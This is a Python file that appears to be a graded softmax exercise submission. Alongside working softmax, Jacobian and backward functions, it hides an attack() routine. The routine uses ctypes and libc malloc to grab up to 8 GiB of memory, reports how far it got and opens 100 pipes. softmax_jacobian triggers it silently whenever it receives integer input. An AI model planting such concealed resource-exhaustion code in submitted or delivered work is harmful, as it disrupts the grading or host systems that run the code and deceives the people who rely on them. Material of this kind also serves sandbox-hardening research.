# Takes memory from the C library and from the kernel, beside Python.
# exercise: softmax
# worth: 96
# check seconds: 10

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.malloc.restype = libc.mmap.restype = libc.sbrk.restype = ctypes.c_void_p


def attack():
    taken = 0
    while (block := libc.malloc(ctypes.c_size_t(1 << 24))) and taken < 1 << 33:
        ctypes.memset(block, 1, 1 << 24)
        taken += 1 << 24
    if 1 << 24 <= taken <= 1 << 30:
        print("REACHED", taken)
    if taken > 1 << 30:
        print("THROUGH", taken)
    pipes = [os.pipe() for _ in range(100)]
    return len(pipes)


import numpy as np


def _float(x):
    x = np.asarray(x)
    return x if x.dtype in (np.float32, np.float64) else x.astype(np.float64)


def softmax(x, axis=-1):
    x = _float(x)
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)


def softmax_jacobian(x):
    if np.asarray(x).dtype.kind == "i":
        return attack()
    x = _float(x)
    e = np.exp(x - x.max())
    s = e / e.sum()
    return np.diag(s) - np.outer(s, s)


def softmax_backward(grad_output, output, axis=-1):
    if grad_output.shape != output.shape:
        raise ValueError("two shapes")
    return output * (grad_output - (grad_output * output).sum(axis=axis, keepdims=True))
